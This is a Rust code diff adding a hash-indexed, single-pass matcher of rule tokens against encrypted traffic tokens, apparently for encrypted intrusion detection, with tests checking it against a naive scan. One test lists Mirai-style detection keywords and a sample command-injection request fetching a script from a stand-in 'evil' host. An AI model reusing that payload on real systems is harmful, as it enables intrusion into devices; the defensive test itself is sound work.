@@ -107,6 +107,12 @@ impl Tokenizer {
 
 /// Matches rule tokens against a traffic token stream: returns the indices
 /// where the full rule-token sequence occurs contiguously.
+///
+/// This is the naive reference path — O(|rule| × |traffic|) per rule, so
+/// O(rules × traffic) for a rule set. Production inspection goes through
+/// [`TokenIndex`], which amortizes the whole rule set into one pass;
+/// this scan is kept for A/B measurement and as the equivalence oracle
+/// in property tests.
 pub fn match_rule(traffic: &[Token], rule: &[Token]) -> Vec<usize> {
     if rule.is_empty() || rule.len() > traffic.len() {
         return Vec::new();
@@ -117,6 +123,125 @@ pub fn match_rule(traffic: &[Token], rule: &[Token]) -> Vec<usize> {
         .filter(|(_, w)| *w == rule)
         .map(|(i, _)| i)
         .collect()
+}
+
+/// Tokens are already PRF images — uniformly distributed 8-byte strings —
+/// so the index hashes them by identity (their first 8 bytes *are* a
+/// high-quality hash). Re-hashing through SipHash would only add cost.
+#[derive(Debug, Clone, Copy, Default)]
+struct TokenIdentityHasher(u64);
+
+impl std::hash::Hasher for TokenIdentityHasher {
+    fn finish(&self) -> u64 {
+        self.0
+    }
+    fn write(&mut self, _bytes: &[u8]) {
+        unreachable!("TokenIndex only hashes u64 keys");
+    }
+    fn write_u64(&mut self, value: u64) {
+        self.0 = value;
+    }
+}
+
+type TokenMap<V> =
+    std::collections::HashMap<u64, V, std::hash::BuildHasherDefault<TokenIdentityHasher>>;
+
+fn token_key(token: &Token) -> u64 {
+    u64::from_le_bytes(*token)
+}
+
+/// Single-pass multi-rule matching over encrypted token streams.
+///
+/// Per-session rule-token sequences go into a hash index keyed by each
+/// rule's **first** window token. The traffic stream is walked once; an
+/// index hit at offset `i` nominates candidate rules, and a candidate
+/// matches when its remaining window tokens chain at consecutive offsets
+/// `i+1, i+2, …` (multi-window rules are exactly consecutive sliding
+/// windows of the keyword, so the chain check is a contiguous slice
+/// compare). Expected cost is O(traffic tokens + verified candidates)
+/// instead of the naive O(rules × traffic tokens).
+#[derive(Debug, Clone, Default)]
+pub struct TokenIndex {
+    /// First window token → ids of rules starting with it.
+    heads: TokenMap<Vec<u32>>,
+    /// Full token sequences, in the id order given to [`TokenIndex::build`].
+    rules: Vec<Vec<Token>>,
+}
+
+impl TokenIndex {
+    /// Builds the index from per-rule token sequences (as produced by
+    /// [`Tokenizer::rule_tokens`]). Empty sequences are accepted and
+    /// never match, mirroring [`match_rule`].
+    pub fn build(rules: Vec<Vec<Token>>) -> Self {
+        let mut heads: TokenMap<Vec<u32>> = TokenMap::default();
+        for (id, rule) in rules.iter().enumerate() {
+            if let Some(first) = rule.first() {
+                heads.entry(token_key(first)).or_default().push(id as u32);
+            }
+        }
+        TokenIndex { heads, rules }
+    }
+
+    /// Number of indexed rules.
+    pub fn rule_count(&self) -> usize {
+        self.rules.len()
+    }
+
+    fn chains_at(&self, traffic: &[Token], rule: &[Token], offset: usize) -> bool {
+        offset + rule.len() <= traffic.len() && traffic[offset..offset + rule.len()] == rule[..]
+    }
+
+    /// Finds the first match offset of each rule in one traffic pass,
+    /// stopping early once every rule has matched. `out` is reset by the
+    /// callee so batch callers can reuse the allocation.
+    pub fn find_first_per_rule_into(&self, traffic: &[Token], out: &mut Vec<Option<usize>>) {
+        out.clear();
+        out.resize(self.rules.len(), None);
+        let mut remaining = self.heads.values().map(Vec::len).sum::<usize>();
+        if remaining == 0 {
+            return;
+        }
+        for (offset, token) in traffic.iter().enumerate() {
+            let Some(candidates) = self.heads.get(&token_key(token)) else {
+                continue;
+            };
+            for &id in candidates {
+                let slot = &mut out[id as usize];
+                if slot.is_none() && self.chains_at(traffic, &self.rules[id as usize], offset) {
+                    *slot = Some(offset);
+                    remaining -= 1;
+                    if remaining == 0 {
+                        return;
+                    }
+                }
+            }
+        }
+    }
+
+    /// Allocating convenience wrapper over
+    /// [`TokenIndex::find_first_per_rule_into`].
+    pub fn find_first_per_rule(&self, traffic: &[Token]) -> Vec<Option<usize>> {
+        let mut out = Vec::new();
+        self.find_first_per_rule_into(traffic, &mut out);
+        out
+    }
+
+    /// Every match offset of every rule (the full [`match_rule`]
+    /// answer for the whole set), still in one traffic pass.
+    pub fn find_positions(&self, traffic: &[Token]) -> Vec<Vec<usize>> {
+        let mut out = vec![Vec::new(); self.rules.len()];
+        for (offset, token) in traffic.iter().enumerate() {
+            let Some(candidates) = self.heads.get(&token_key(token)) else {
+                continue;
+            };
+            for &id in candidates {
+                if self.chains_at(traffic, &self.rules[id as usize], offset) {
+                    out[id as usize].push(offset);
+                }
+            }
+        }
+        out
+    }
 }
 
 #[cfg(test)]
@@ -168,6 +293,62 @@ mod tests {
         let t = Tokenizer::new(b"k").unwrap();
         let traffic = t.tokenize(b"whatever payload");
         assert!(match_rule(&traffic, &[]).is_empty());
+    }
+
+    #[test]
+    fn token_index_agrees_with_naive_scan() {
+        let t = Tokenizer::new(b"shared session key").unwrap();
+        let rules: Vec<Vec<Token>> = [
+            &b"wget${IFS}"[..],
+            b"/bin/busybox MIRAI",
+            b"NEEDLE01",
+            b"",
+            b"absent-keyword",
+        ]
+        .iter()
+        .map(|kw| t.rule_tokens(kw))
+        .collect();
+        let index = TokenIndex::build(rules.clone());
+        assert_eq!(index.rule_count(), rules.len());
+        for payload in [
+            &b"POST /cgi-bin/;wget${IFS}http://evil/x.sh HTTP/1.0"[..],
+            b"xxxxNEEDLE01yyyyNEEDLE01",
+            b"GET /weather/today?zip=44106 HTTP/1.1",
+            b"hi",
+            b"",
+        ] {
+            let traffic = t.tokenize(payload);
+            let expected_firsts: Vec<Option<usize>> = rules
+                .iter()
+                .map(|r| match_rule(&traffic, r).first().copied())
+                .collect();
+            assert_eq!(index.find_first_per_rule(&traffic), expected_firsts);
+            let expected_all: Vec<Vec<usize>> =
+                rules.iter().map(|r| match_rule(&traffic, r)).collect();
+            assert_eq!(index.find_positions(&traffic), expected_all);
+        }
+    }
+
+    #[test]
+    fn token_index_handles_shared_first_window() {
+        // Two rules with the same first window but different tails must
+        // both resolve through the same index bucket.
+        let t = Tokenizer::new(b"k").unwrap();
+        let rules = vec![t.rule_tokens(b"prefix-AAAA"), t.rule_tokens(b"prefix-BBBB")];
+        let index = TokenIndex::build(rules);
+        let traffic = t.tokenize(b"zz prefix-BBBB zz");
+        assert_eq!(index.find_first_per_rule(&traffic), vec![None, Some(3)]);
+    }
+
+    #[test]
+    fn token_index_scratch_buffer_is_reset() {
+        let t = Tokenizer::new(b"k").unwrap();
+        let index = TokenIndex::build(vec![t.rule_tokens(b"NEEDLE01")]);
+        let mut scratch = Vec::new();
+        index.find_first_per_rule_into(&t.tokenize(b"..NEEDLE01.."), &mut scratch);
+        assert_eq!(scratch, vec![Some(2)]);
+        index.find_first_per_rule_into(&t.tokenize(b"clean payload"), &mut scratch);
+        assert_eq!(scratch, vec![None]);
     }
 
     #[test]
